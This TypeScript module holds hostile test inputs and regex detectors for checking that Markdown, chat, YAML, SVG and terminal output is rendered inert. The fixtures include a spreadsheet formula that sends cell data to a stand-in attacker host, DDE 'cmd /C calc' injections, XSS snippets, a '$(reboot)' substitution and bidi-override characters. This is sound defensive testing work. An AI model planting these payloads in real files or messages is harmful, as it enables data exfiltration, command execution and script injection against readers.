/** Hostile text: what alerts and people can write to make a document, a chat, a terminal or a spreadsheet do something. */

const EVIL = 'evil.example.com';

/** Each begins in another way, because what begins a line or a cell counts most. */
export const HOSTILE = {
  formula: `=HYPERLINK("http://${EVIL}/?x="&A1,"click") \u202Etxt.exe`,
  sum: `@SUM(1+1)*cmd|' /C calc'!A0 <script>alert(1)</script>`,
  mention: `<!channel> <@U012AB3CD> <https://${EVIL}|login> @here @channel \u001b[31mred\u0007`,
  html: `<img src=x onerror=alert(1)> <a href="http://${EVIL}">x</a> &lt;b&gt; \u2066\u0000`,
  markdown: `[x](javascript:alert(1)) ![i](http://${EVIL}/i.png) **b** \`c\` | a | b | http://${EVIL}`,
  block: `\n# heading\n- item\n\n| a | b |\n|---|---|\n\`\`\`\nhttps://${EVIL}\n\n=1+1`,
  plus: `+1+cmd|' /C calc'!A0 www.${EVIL} ${'~'.repeat(3)} $(reboot)`,
  minus: `-2+3 *x* _y_ <#C1> \u{E0041}\u200B`,
} as const;

/** All of them, one after the other. */
export const EVERY_HOSTILE = Object.values(HOSTILE).join(' ');

/** In one line and without addresses: what a person may write, and what is sent on with its addresses. */
export const SPOKEN_HOSTILE = `=1+1 <!channel> <script>alert(1)</script> **b** | a | [x](javascript:alert(1)) \u202Egnp @here`;

/** Controls but line feeds, and what is invisible or turns the direction of text around. */
const HIDDEN =
  /(?!\n)[\p{Cc}\p{Surrogate}\u061C\u200B\u200E\u200F\u2028\u2029\u202A-\u202E\u2066-\u2069\u{E0000}-\u{E007F}]/u;
const FORMULA_LINE = /^[=+@]/m;
const EVIL_LINK = /(?:https?:\/\/|www\.)evil/i;

/** What of it is still active in a Markdown document; empty when nothing is. */
export function activeInMarkdown(markdown: string): readonly string[] {
  const outside = markdown.replace(/^(`{3,})[\s\S]*?^\1$/gm, '').replace(/`[^`\n]*`/g, '');
  // What is escaped is text; and so are the targets that we write ourselves.
  const bare = outside.replace(/\\[^\s\w]/g, '·').replace(/\]\(<[^>\n]*>\)/g, ']');
  return [
    ...found(outside, { hidden: HIDDEN }),
    ...found(bare, {
      html: /<(?!!--)[a-z!/@#]/i,
      link: /\]\(javascript|\[x\]|!\[i\]|\*\*b\*\*/,
      autolink: EVIL_LINK,
      heading: /^#+ heading/m,
      mention: /@(?:here|channel)/,
    }),
    ...brokenTables(bare),
  ];
}

/** Rows with more cells than their table has, and cells that a spreadsheet takes for a formula. */
function brokenTables(bare: string): readonly string[] {
  const broken: string[] = [];
  let width = 0;
  for (const line of bare.split('\n')) {
    const cells = line.startsWith('|') ? line.split('|').slice(1, -1) : [];
    if (cells.length === 0) width = 0;
    else if (width === 0) width = cells.length;
    if (cells.length !== width) broken.push(`columns: ${line}`);
    broken.push(...cells.map((cell) => cell.trim()).filter((cell) => /^(?:[=+@]|-\d)/.test(cell)));
  }
  return broken;
}

/** The same for plain text, as notes and chats show it. */
export function activeInMessage(message: string): readonly string[] {
  return found(message, {
    hidden: HIDDEN,
    mention: /<[!@#]|@(?:here|channel|everyone)\b/i,
    link: /<https?:\/\/evil|https?:\/\/evil/i,
    formula: FORMULA_LINE,
  });
}

/** The same for YAML: a value that begins like a formula is in quotes. */
export function activeInYaml(yaml: string): readonly string[] {
  return found(yaml, { hidden: HIDDEN, formula: /^\s*(?:- |\w+: )?[=+@]/m });
}

export function activeInPicture(svg: string): readonly string[] {
  return found(svg, { hidden: HIDDEN, html: /<(?:script|img|a )|\son\w+="/i });
}

/** What a terminal would act on. */
export function activeInTerminal(text: string): readonly string[] {
  return found(text, { hidden: /(?!\n)\p{Cc}|[\u202A-\u202E\u2066-\u2069]/u });
}

function found(text: string, marks: Readonly<Record<string, RegExp>>): readonly string[] {
  return Object.entries(marks).flatMap(([name, mark]) => {
    const at = text.search(mark);
    return at === -1
      ? []
      : [`${name}: …${JSON.stringify(text.slice(Math.max(0, at - 40), at + 60))}`];
  });
}
